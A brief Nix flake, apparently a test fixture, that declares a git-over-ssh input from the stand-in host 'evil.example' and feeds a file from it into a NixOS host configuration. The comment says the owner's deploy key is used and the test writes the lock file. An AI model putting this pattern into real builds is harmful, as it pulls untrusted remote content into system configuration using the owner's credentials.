# An input by ssh, of a server that knows the owner's deploy key; the test writes the lock.
{
  inputs.code = { url = "git+ssh://git@evil.example/private"; flake = false; };
  outputs = { self, code }: {
    nixosConfigurations.host = import ../host.nix "host" { parameters = [ (builtins.readFile "${code}/x") ]; };
  };
}
